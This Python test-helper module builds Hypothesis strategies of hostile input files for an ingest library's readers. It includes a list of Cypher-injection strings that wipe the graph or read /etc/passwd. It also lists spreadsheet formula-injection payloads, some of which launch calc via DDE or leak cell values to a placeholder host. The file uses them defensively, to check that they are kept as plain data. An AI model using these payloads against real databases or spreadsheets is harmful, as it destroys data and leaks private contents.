"""Strategies for hostile input files, and the invariant every reader must keep on them."""

from __future__ import annotations

import io
import json
import zipfile
from pathlib import Path
from typing import Any

from hypothesis import strategies as st

from ingest.errors import IngestError
from ingest.readers import GEOMETRY, read_rows

#: Cypher-injection and quoting trouble: each must end up stored and returned as plain data
INJECTIONS = (
    "'}) MATCH (n) DETACH DELETE n //",
    "\"}) MATCH (n) DETACH DELETE n //",
    "x` DETACH DELETE n //",
    "`) MATCH (n) DETACH DELETE n //",
    "$param",
    "$rows",
    "{name: $x}",
    "\u2018}) MATCH (n) DETACH DELETE n //\u2019",   # unicode single quotes
    "\u201c) RETURN 1 //\u201d",                      # unicode double quotes
    "\uff07}) MATCH (n) DETACH DELETE n //",          # full-width apostrophe
    "' OR 1=1 WITH true AS x MATCH (n) DELETE n //",
    "\\'; CALL db.clearQueryCaches() //",
    "/* */ MATCH (n) RETURN n",
    "1' UNION MATCH (n) RETURN n //",
    "LOAD CSV FROM 'file:///etc/passwd' AS l RETURN l",
)
#: spreadsheet formulas: stored as text, never evaluated
FORMULAS = (
    '=HYPERLINK("http://example.invalid/x?leak="&A1,"点击查看")',
    "=cmd|' /C calc'!A0",
    "+cmd|' /C notepad'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "=1+1",
    '=IMPORTXML(CONCAT("http://example.invalid/?v=",A1),"//a")',
)

EXTENSIONS = (".csv", ".txt", ".tsv", ".jsonl", ".ndjson", ".geojson", ".json", ".xlsx")
ENCODINGS = ("utf-8", "utf-8-sig", "gb18030", "gbk", "utf-16", "big5", "shift_jis", "latin-1", "cp1252")

# text that exercises quoting, separators, full-width forms, controls and astral characters
_ALPHABET = st.characters(codec="utf-8", exclude_categories=("Cs",))
cell_text = st.one_of(
    st.text(_ALPHABET, max_size=30),
    st.sampled_from(INJECTIONS + FORMULAS),
    st.sampled_from(("", " ", "\t", '"', '""', ",", ";", "；", "\r\n", "\x00", "ＡＢＣ１２３", "（）", "9.13501E+17",
                     "NaN", "-0", "1e309", "成都市武侯区玉林街道", "\u202e反转", "\ufeff")),
)


def read_all(path: Path, **kw: Any) -> list[tuple[int, dict[str, Any]]] | IngestError:
    """Every row of a file, or the IngestError it raised; any other exception escapes (a bug)."""
    try:
        rows = list(read_rows(path, **kw))
    except IngestError as e:
        assert str(e).strip(), "an IngestError must carry a message"
        assert e.hint, f"an IngestError must say how to fix it: {e}"
        return e
    last = 0
    for number, cells in rows:
        assert isinstance(number, int) and number > last, (number, last)
        last = number
        assert isinstance(cells, dict)
        assert all(isinstance(k, str) for k in cells)
        assert all(v is None or isinstance(v, str | list | dict) for k, v in cells.items() if k != GEOMETRY), cells
    return rows


def zip_bytes(members: dict[str, bytes]) -> bytes:
    """A zip archive holding ``members``."""
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as z:
        for name, body in members.items():
            z.writestr(name, body)
    return buf.getvalue()


XLSX_MEMBERS = ("[Content_Types].xml", "_rels/.rels", "xl/workbook.xml", "xl/_rels/workbook.xml.rels",
                "xl/worksheets/sheet1.xml", "xl/sharedStrings.xml", "xl/styles.xml", "docProps/app.xml")

json_scalar = st.one_of(st.none(), st.booleans(), st.integers(), st.floats(allow_nan=False),
                        cell_text)
json_value = st.recursive(json_scalar, lambda c: st.lists(c, max_size=3) | st.dictionaries(cell_text, c, max_size=3),
                          max_leaves=8)


@st.composite
def geometries(draw: st.DrawFn) -> Any:
    """Valid, broken and absurd GeoJSON geometries."""
    coord = st.one_of(st.floats(min_value=-200, max_value=200), st.sampled_from((float("nan"), float("inf"))))
    ring = st.lists(st.lists(coord, min_size=0, max_size=3), min_size=0, max_size=6)
    kind = draw(st.sampled_from(("Polygon", "MultiPolygon", "Point", "LineString", "GeometryCollection", "Bogus",
                                 None, 7)))
    coords = draw(st.one_of(
        st.lists(ring, max_size=2),                       # polygon-ish (maybe unclosed, maybe too short)
        st.lists(st.lists(ring, max_size=2), max_size=2),  # multipolygon-ish
        json_value))
    return draw(st.one_of(st.none(), json_value, st.just({"type": kind, "coordinates": coords}),
                          st.just({"type": kind}), st.just({"coordinates": coords})))


def geojson_doc(features: list[Any]) -> str:
    """A FeatureCollection text (``allow_nan`` on purpose: exports do write NaN)."""
    return json.dumps({"type": "FeatureCollection", "features": features}, ensure_ascii=False)
